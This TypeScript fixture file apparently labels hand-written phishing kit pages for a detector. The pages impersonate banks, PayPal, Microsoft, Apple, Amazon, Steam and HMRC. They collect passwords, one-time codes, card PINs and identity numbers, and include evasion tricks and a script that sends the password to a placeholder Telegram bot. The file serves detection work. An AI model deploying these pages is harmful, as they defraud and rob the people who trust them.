// Kits that play the log-in or the forms of a bank, an office, a shop or a network, each written by hand.
import { dead, field, form, kitPage, logo, type Shape } from './kit_page.ts'

export const logins: readonly Shape[] = [
  {
    of: 'a log-in copied from a payment service, to a script beside it',
    html: kitPage(
      'Log in to your PayPal account',
      `${logo('PayPal')}${form('login.php', 'Log In', field('login_email', 'Email or mobile number'), field('login_pass', 'Password', 'password'))}
${dead('Having trouble logging in?', 'Sign Up')}<footer>${dead('Contact Us', 'Privacy', 'Legal')} Copyright © 1999-2024 PayPal. All rights reserved.</footer>`,
    ),
    lookalike: 'paypal-login-secure.com',
    signals: ['impersonated_brand'],
  },
  {
    of: 'a stop to an account, with the card and its PIN to lift it',
    html: kitPage(
      'PayPal: confirm your information',
      `${logo('PayPal')}<h1>Your account has been limited</h1><p>Confirm your card to restore access within 24 hours.</p>
${form('send_card.php', 'Confirm', field('cardholder', 'Name on card'), field('cardnumber', 'Card number'), field('exp', 'MM/YY'), field('cvv', 'CVV'), field('atm_pin', 'ATM PIN', 'password'))}
${dead('Help', 'Contact', 'Privacy')}<p>© PayPal</p>`,
    ),
    lookalike: 'paypal-account-restore.com',
    signals: ['impersonated_brand', 'asks_for_card_pin'],
  },
  {
    of: 'a bank that asks for everything that proves an identity',
    html: kitPage(
      'Wells Fargo: Verify your identity',
      `${logo('Wells Fargo')}<h2>Verify your identity</h2>
${form('process2.php', 'Continue', field('fname', 'Full name'), field('dob', 'Date of birth'), field('ssn', 'Social Security Number'), field('mmn', "Mother's maiden name"), field('password', 'Online password', 'password'))}
${dead('Privacy', 'Security', 'Legal')}<p>© 2024 Wells Fargo Bank, N.A. All rights reserved.</p>`,
    ),
    lookalike: 'wellsfargo-identity-verify.com',
    signals: ['impersonated_brand', 'asks_for_identity_number'],
  },
  {
    of: 'the code that a bank sent, asked for beside the password',
    html: kitPage(
      'Chase Online',
      `${logo('Chase')}<h1>We sent you a code</h1>
${form('otp.php', 'Next', field('userid', 'Username'), field('passwd', 'Password', 'password'), field('otp', 'One-time code'))}
${dead('Resend code', 'Forgot username or password?')}<p>© JPMorgan Chase Bank</p>`,
    ),
    lookalike: 'chase-secure-verify.com',
    signals: ['impersonated_brand'],
  },
  {
    of: 'a document behind the log-in to a mailbox',
    html: kitPage(
      'Shared document',
      `<img src="images/pdf.png"><h3>Microsoft OneDrive</h3><p>Sign in with your email to view the shared document.</p>
${form('next.php', 'View Document', field('email', 'Email address', 'email'), field('emailpass', 'Email Password', 'password'))}
${dead('Outlook', 'Office 365', 'Other Mail')}<p>© 2024 Microsoft</p>`,
    ),
    lookalike: 'microsoft-onedrive-share.com',
    signals: ['impersonated_brand', 'asks_for_mailbox_password'],
  },
  {
    of: 'a mailbox that is nearly full, its address taken from the link',
    html: kitPage(
      'Webmail: mailbox quota',
      `${logo('Webmail')}<h2>Your mailbox is full</h2><p>Validate your account to keep receiving messages. It will be suspended within 24 hours.</p>
${form('post.php', 'Validate', field('user', 'Email'), field('pass', 'Password', 'password'))}${dead('Help')}`,
      { script: "document.querySelector('[name=user]').value = window.location.hash.split('#')[1]" },
    ),
    signals: [],
  },
  {
    of: 'a saved copy of a social network',
    html: kitPage(
      'Facebook – log in or sign up',
      `<img src="Facebook_files/logo.svg" alt="Facebook"><h2>Facebook helps you connect with the people in your life.</h2>
${form('login.php', 'Log In', field('email', 'Email address or phone number'), field('pass', 'Password', 'password'))}
${dead('Forgotten password?', 'Create new account')}<div>${dead('English', 'Deutsch', 'Français')}</div><p>Meta © 2024</p>`,
      {
        head: '<!-- saved from url=(0024)https://www.facebook.com/ --><link rel="stylesheet" href="Facebook_files/a.css"><script src="Facebook_files/b.js"></script>',
      },
    ),
    lookalike: 'facebook-login-security.com',
    signals: ['impersonated_brand'],
  },
  {
    of: 'a log-in that a script posts to a script',
    html: kitPage(
      'Netflix',
      `${logo('Netflix')}<h1>Sign In</h1><div><input type="text" id="u" placeholder="Email or phone number"><input type="password" id="p" placeholder="Password"><button onclick="go()">Sign In</button></div>
${dead('Need help?', 'Sign up now')}<p>Questions? Call 1-844-505-2993. © Netflix</p>`,
      {
        script:
          "function go(){ $.post('send.php', {u: u.value, p: p.value}, function(){ location.href = 'billing.html' }) }",
      },
    ),
    lookalike: 'netflix-billing-update.com',
    signals: ['impersonated_brand'],
  },
  {
    of: 'a log-in that tells a messenger’s bot',
    html: kitPage(
      'Outlook Web App',
      `${logo('Outlook')}<h2>Sign in to Outlook</h2><div><input name="email" placeholder="Email"><input type="password" name="pw" placeholder="Password"><button id="s">Sign in</button></div>${dead('Forgot password?')}<p>© Microsoft</p>`,
      {
        script:
          "s.onclick=function(){fetch('https://api.telegram.org/bot123456:AAExample/sendMessage?chat_id=1&text='+pw.value)}",
      },
    ),
    lookalike: 'outlook-signin-owa.com',
    signals: ['impersonated_brand', 'credentials_to_messenger_bot'],
  },
  {
    of: 'a password that no field of that type asks for',
    html: kitPage(
      'Sign in – Apple',
      `${logo('Apple')}<h1>Apple ID</h1>${form('verify.php', 'Continue', field('appleid', 'Apple ID'), '<input type="text" name="password" class="dots" placeholder="Password">')}
${dead('Forgot Apple ID or password?', 'Create yours now')}<p>Copyright © 2024 Apple Inc. All rights reserved.</p>`,
      { head: '<style>.dots{-webkit-text-security:disc}</style>' },
    ),
    lookalike: 'appleid-verify-account.com',
    signals: ['impersonated_brand'],
  },
  {
    of: 'a brand written in coded letters',
    html: kitPage(
      '&#65;&#109;&#97;&#122;&#111;&#110; &#83;&#105;&#103;&#110; &#73;&#110;',
      `<img src="img/l.png" alt="&#65;&#109;&#97;&#122;&#111;&#110;"><h1>&#83;&#105;&#103;&#110;&#32;&#105;&#110;</h1>
${form('signin.php', 'Continue', field('email', 'Email or mobile phone number'), field('password', 'Password', 'password'))}
${dead('Conditions of Use', 'Privacy Notice', 'Help')}<p>© 1996-2024, &#65;&#109;&#97;&#122;&#111;&#110;.com, Inc.</p>`,
    ),
    lookalike: 'amazon-signin-account.com',
    signals: ['impersonated_brand'],
  },
  {
    of: 'a copy that loads its look from the bank',
    html: kitPage(
      'Bank of America | Online Banking | Sign In',
      `<img src="https://www.bankofamerica.com/logo.svg" alt="Bank of America"><h1>Log In to Online Banking</h1>
${form('step1.php', 'Log In', field('onlineId', 'User ID'), field('passcode', 'Password', 'password'))}
${dead('Forgot ID/Password?', 'Enroll', 'Security & Help')}<p>Bank of America, N.A. Member FDIC. © 2024 Bank of America Corporation.</p>`,
      {
        head: '<link rel="stylesheet" href="https://www.bankofamerica.com/a.css"><script src="https://www.bankofamerica.com/b.js"></script>',
      },
    ),
    lookalike: 'bankofamerica-online-signin.com',
    signals: ['impersonated_brand'],
  },
  {
    of: 'a browser window drawn into the page',
    html: kitPage(
      'Team tournament: vote',
      `<h1>Vote for your team</h1><div class="window"><div class="title-bar">Sign in to Steam</div><div id="url-bar">https://steamcommunity.com/openid/login</div>
${form('auth.php', 'Sign in', field('username', 'Steam account name'), field('password', 'Password', 'password'))}</div>`,
    ),
    lookalike: 'steamcommunity-vote-login.com',
    signals: ['impersonated_brand', 'fake_browser_window'],
  },
  {
    of: 'a log-in to an office whose steps are shown one by one',
    html: kitPage(
      'Sign in to your account',
      `<img src="images/microsoft_logo.svg" alt="Microsoft"><div id="step1"><h1>Sign in</h1><input type="email" name="loginfmt" placeholder="Email, phone, or Skype"><button id="next">Next</button></div>
<div id="step2" style="display:none"><h1>Enter password</h1><input type="password" name="passwd" placeholder="Password"><button id="go">Sign in</button></div>
${dead('Can’t access your account?', 'Sign-in options', 'Terms of use', 'Privacy & cookies')}<p>©2025 Microsoft</p>`,
      {
        script:
          "var em=atob(location.hash.slice(1));go.onclick=function(){$.ajax({url:'inc/next.php',type:'POST',data:{u:em,p:document.querySelector('[name=passwd]').value}})}",
      },
    ),
    lookalike: 'microsoft-office365-signin.com',
    signals: ['impersonated_brand'],
  },
  {
    of: 'a voice message behind the password of a mailbox',
    html: kitPage(
      'Voicemail portal',
      `<h2>You have a new voice message (0:41)</h2><p>Confirm your mailbox to listen. The message expires in 24 hours.</p>
${form('play.php', 'Listen', field('email', 'Email address', 'email'), field('epass', 'Email password', 'password'))}<p>© Voice services</p>`,
    ),
    signals: ['asks_for_mailbox_password'],
  },
  {
    of: 'a tax refund that is paid to a card',
    html: kitPage(
      'HM Revenue & Customs: tax refund',
      `${logo('GOV.UK')}<h1>HM Revenue &amp; Customs</h1><p>You are due a refund of £276.11. Confirm your details to receive the payment.</p>
${form('refund.php', 'Continue', field('fullname', 'Full name'), field('dob', 'Date of birth'), field('ninumber', 'National Insurance number'), field('ccnum', 'Card number'), field('expiry', 'MM/YY'), field('cvv', 'CVV'), field('sortcode', 'Sort code'), field('account_number', 'Account number'))}
${dead('Help', 'Cookies', 'Contact', 'Terms and conditions')}<p>© Crown copyright</p>`,
    ),
    lookalike: 'hmrc-gov-uk-refund.com',
    signals: ['impersonated_brand'],
  },
]
